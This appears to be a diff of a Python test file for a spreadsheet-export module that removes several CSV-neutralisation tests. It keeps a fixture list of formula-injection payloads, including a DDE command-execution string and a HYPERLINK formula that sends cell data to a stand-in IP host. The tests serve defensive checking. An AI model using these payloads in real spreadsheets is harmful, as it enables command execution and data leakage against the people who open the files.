@@ -1,22 +1,20 @@
 """Exported workbooks: texts stay texts, figures stay exact, the sheet prints and scrolls well."""
 
-import csv
 import re
 import tempfile
 import time
 import zipfile
 from datetime import UTC, date, datetime
 from decimal import Decimal
-from io import BytesIO, StringIO
+from io import BytesIO
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
 from core.documents.columns import Column, Kind, column_widths, display_width
-from core.documents.csvout import write_csv
 from core.documents.excel import Cover, Sheet, write_workbook
 from core.documents.excel_style import safe_sheet_names
-from core.documents.neutral import LONGEST_TEXT, TextTooLong, csv_text, is_dangerous
+from core.documents.neutral import LONGEST_TEXT, TextTooLong, is_dangerous
 
 PAYLOADS = [
     "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/?x="&A1,"点击")',
@@ -207,13 +205,6 @@ def test_width_follows_the_widest_text_within_bounds():
     assert column_widths(columns, [["1", "安澜县教育和体育局", "长" * 90, "无"]]) == [6, 20, 48, 9]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_csv_text_starts_with_nothing_a_spreadsheet_executes(payload):
-    text = csv_text(payload)
-    assert not is_dangerous(text)
-    assert text.startswith("'") or text == "{=1+1}"
-
-
 def test_styled_sheet_costs_about_as_much_as_a_bare_one():
     """The time itself is reported by the bench; here only that nothing is quadratic or styled cell by cell."""
     rows = [[f"单位{n}", n, *[Decimal(n * 7919 % 100_000).scaleb(-2)] * 28] for n in range(300)]
@@ -223,17 +214,3 @@ def test_styled_sheet_costs_about_as_much_as_a_bare_one():
     assert time.process_time() - started < 5
     styles = reopened(data)._cell_styles
     assert len(styles) < 20
-
-
-def test_csv_holds_no_raw_prefix_in_heads_or_fields():
-    data = write_csv(PAYLOADS, [PAYLOADS]).decode("utf-8-sig")
-    rows = list(csv.reader(StringIO(data, newline="")))
-    assert [len(row) for row in rows] == [len(PAYLOADS)] * 2
-    assert [field for row in rows for field in row if is_dangerous(field)] == []
-
-
-def test_csv_keeps_figures_dates_and_flags_bare():
-    data = write_csv(["值"], [[Decimal("-2.50")], [-3], [date(2012, 12, 31)], [True], [None], ["张玥"]])
-    assert data.decode("utf-8-sig").split("\r\n")[1:-1] == ["-2.50", "-3", "2012-12-31", "是", '""', "张玥"]
-    with pytest.raises(TypeError):
-        write_csv(["值"], [[0.5]])
